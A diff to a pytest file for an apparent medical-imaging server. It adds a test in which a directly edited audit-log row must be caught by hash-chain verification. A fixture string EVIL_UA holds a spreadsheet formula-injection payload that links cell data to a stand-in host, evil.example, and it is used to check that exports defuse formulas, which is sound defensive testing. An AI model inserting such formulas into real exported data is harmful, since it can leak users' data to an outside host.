@@ -10,11 +10,13 @@ import io
 
 import orjson
 import pytest
+import sqlalchemy as sa
 from dicomgen import make_dataset, multipart, to_part10
 from openpyxl import load_workbook
 from sechelpers import PASSWORD, make_settings
 
 from pacsd import cli
+from pacsd.index.security_schema import audit_events
 from pacsd.services.audit_export import COLUMNS, cell
 
 EVIL_UA = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"
@@ -124,10 +126,20 @@ async def test_MLPS6_only_the_auditor_reads_and_refusals_are_audited(api, path):
     assert await api.events(event_type="audit-export") == []
 
 
-async def test_chain_status_for_the_page(trail):
+async def test_SEC22_chain_status_for_the_page(trail, db_url):
     body = await get(trail, "/api/v1/audit/verify", trail.auditor)
     assert body["ok"] is True and body["problem"] == ""
     assert body["head_seq"] == body["rows"] >= 8 and len(body["head_hash"]) == 64
+    engine = sa.create_engine(db_url)
+    with engine.begin() as conn:  # someone edits a row directly in the database
+        conn.execute(sa.update(audit_events).where(audit_events.c.seq == 3)
+                     .values(actor_name="nobody"))
+    engine.dispose()
+    # A check a few seconds old is reused; fresh=true (or a minute later) walks again.
+    assert (await get(trail, "/api/v1/audit/verify", trail.auditor))["ok"] is True
+    body = await get(trail, "/api/v1/audit/verify?fresh=true", trail.auditor)
+    assert (body["ok"], body["bad_seq"], body["problem"]) == (
+        False, 3, "the row was modified")
 
 
 async def test_R_E3_E4_csv_export_streams_filters_and_defuses_formulas(trail):
